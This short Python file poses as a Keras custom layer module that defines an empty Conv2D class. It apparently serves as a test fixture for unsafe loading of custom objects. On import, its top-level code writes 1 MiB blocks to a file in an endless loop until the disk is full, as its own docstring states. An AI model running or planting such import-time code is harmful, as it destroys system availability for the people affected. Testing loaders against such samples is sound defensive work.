"""Writes one file that would fill the disk."""

import keras

with open("large", "wb") as file:
    while True:
        file.write(bytes(2**20))


class Conv2D(keras.Layer):
    pass
